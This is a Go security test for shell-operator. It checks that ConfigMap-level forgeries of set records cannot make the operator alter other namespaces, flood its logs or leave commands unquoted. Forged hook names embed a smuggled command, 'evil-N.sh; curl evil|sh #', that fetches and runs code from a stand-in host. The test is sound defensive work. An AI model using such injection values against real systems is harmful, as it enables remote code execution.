package security

import (
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"regexp"
	"strings"
	"testing"

	"k8s.io/client-go/rest"

	"github.com/shell-operator/shell-operator/internal/test"
	"github.com/shell-operator/shell-operator/internal/test/testenv"
)

// hasSet has a set whose owner is in the namespace of the forger, with an object elsewhere.
const hasSet = `#!/bin/sh
if [ "$1" = --config ]; then echo '{configVersion: v1, onStartup: 1}'; exit; fi
cat >"$KUBERNETES_PATCH_PATH" <<'JSON'
{"operation": "Sync", "set": "web", "owner": {"apiVersion": "v1", "kind": "ConfigMap", "namespace": "FORGER", "name": "owner"},
 "objects": [{"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "member", "namespace": "VICTIMS"}}]}
JSON
`

// forgedRecord is a record of a set as earlier versions had it: everything about it can be guessed.
func forgedRecord(t *testing.T, instance, namespace, hook, set string, places []string) string {
	t.Helper()
	owner := "/ConfigMap/" + namespace + "/owner"
	name := sha256.Sum256([]byte(strings.Join([]string{instance, hook, set, owner}, "\n")))
	parent := "shell-operator-" + set + "-" + hex.EncodeToString(name[:])[:10]
	id := sha256.Sum256([]byte(parent + "." + namespace + ".ConfigMap."))
	kinds, err := json.Marshal(map[string][]string{"ConfigMap": places, "Secret": places, "Namespace": {""}})
	if err != nil {
		t.Fatal(err)
	}
	record, err := json.Marshal(map[string]any{"apiVersion": "v1", "kind": "ConfigMap", "metadata": map[string]any{
		"name": parent, "labels": map[string]string{"applyset.kubernetes.io/id": "applyset-" + base64.RawURLEncoding.EncodeToString(id[:]) +
			"-v1"},
		"annotations": map[string]string{
			"shell-operator/set": instance + "/" + hook + "/" + set, "shell-operator/owner": owner, "shell-operator/format": "1",
			"shell-operator/places":      string(kinds),
			"shell-operator/prune-kinds": "Namespace,Secret", "applyset.kubernetes.io/tooling": "shell-operator/v1",
			"applyset.kubernetes.io/contains-group-kinds": "ConfigMap,Namespace,Secret",
		},
	}})
	if err != nil {
		t.Fatal(err)
	}
	return string(record)
}

// Line "records of sets": a user with permission for ConfigMaps in the namespace of an owner forges records. No other object is changed or
// deleted, the operator shows no forgery by itself, and the commands in its log are quoted.
func TestForgedRecordsOfSets(t *testing.T) {
	forgeries := 60
	if test.Long() {
		forgeries = 300
	}
	cluster := testenv.Shared(t)
	own, namespace, victims := cluster.Namespace(t), cluster.Namespace(t), cluster.Namespace(t)
	user := namespace + "-forger"
	cluster.Kubectl(t, "-n", namespace, "create", "role", "forger", "--verb=*", "--resource=configmaps")
	cluster.Kubectl(t, "-n", namespace, "create", "rolebinding", "forger", "--role=forger", "--user="+user)
	cluster.UntilAllowed(t, user, namespace, "create", "configmaps")
	config := cluster.Config(t)
	config.Impersonate = rest.ImpersonationConfig{UserName: user}
	forger := testenv.Client(t, config)
	post := func(body string) {
		t.Helper()
		if err := forger.Post().AbsPath("/api/v1/namespaces", namespace, "configmaps").SetHeader("Content-Type", "application/json").
			Body([]byte(body)).Do(t.Context()).Error(); err != nil {
			t.Fatal(err)
		}
	}
	instance := own + ".test"
	places := []string{victims, own, "kube-system", "default"}
	post(`{"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "owner"}}`)
	post(forgedRecord(t, instance, namespace, "web.sh", "web", places)) // that of the hook
	for i := range forgeries {
		post(forgedRecord(t, instance, namespace, fmt.Sprintf("evil-%d.sh; curl evil|sh #", i), "web", places))
	}
	cluster.Kubectl(t, "-n", victims, "create", "configmap", "foreign")
	versions := func() string {
		return cluster.Kubectl(t, "-n", victims, "get", "configmap", "foreign", "-o", "jsonpath={.metadata.uid} {.metadata.resourceVersion}")
	}
	foreign := versions()
	op := testenv.Start(t, testenv.OperatorOptions{
		Binary: testenv.Released(t), Kubeconfig: cluster.Kubeconfig, Args: []string{"--namespace", own, "--instance", instance},
		HooksDir: hooks(t, map[string]string{"web.sh": strings.NewReplacer("FORGER", namespace, "VICTIMS", victims).Replace(hasSet)}),
	})
	op.UntilLog("Hook executed successfully", "hook", "web.sh")
	if is := strings.Fields(cluster.Kubectl(t, "-n", own, "get", "configmap", "-l", "applyset.kubernetes.io/id", "-o", "name")); len(is) != 1 {
		t.Errorf("the records in the operator's namespace are %q", is)
	}
	cluster.Kubectl(t, "-n", victims, "get", "configmap", "member")
	for what, text := range map[string]string{"the metrics": op.Page("/metrics"), "the status": op.Ask("status"),
		"the status page": op.Page("/"), "/readyz": op.Page("/readyz")} {
		if strings.Contains(text, "evil") {
			t.Errorf("%s: %s", what, text[max(0, strings.Index(text, "evil")-300):])
		}
	}
	// An administrator reads them, and removes one.
	list := op.Ask("sets", "list")
	if !strings.Contains(list, "evil-7.sh") {
		t.Errorf("the list has no forgery:\n%.1000s", list)
	}
	op.Ask("sets", "delete", "--hook", "evil-7.sh; curl evil|sh #")
	if after := versions(); after != foreign {
		t.Errorf("the foreign object was %s and is %s", foreign, after)
	}
	cluster.Kubectl(t, "-n", victims, "get", "configmap", "member")
	cluster.Kubectl(t, "get", "namespace", victims, own)

	unquoted := regexp.MustCompile(`(^|[^'])evil-\d+\.sh; curl`)
	about, size := 0, 0
	for _, r := range op.Records() {
		size += len(r.Text)
		if strings.Contains(r.Text, "evil") && !r.Has("A command has changed the operator") {
			about++
		}
		if unquoted.MatchString(r.Fields["hint"]) {
			t.Errorf("a command that is not quoted: %s", r.Text)
		}
	}
	after := peak(t, op.Pid())
	t.Logf("%d records about forgeries, %d KiB of log; peak %d MiB", about, size>>10, after>>20)
	if about > 5 || size > 256<<10 {
		t.Errorf("%d records are about forgeries, and the log has %d KiB", about, size>>10)
	}
	if after > enough {
		t.Errorf("the peak is %d MiB", after>>20)
	}
}
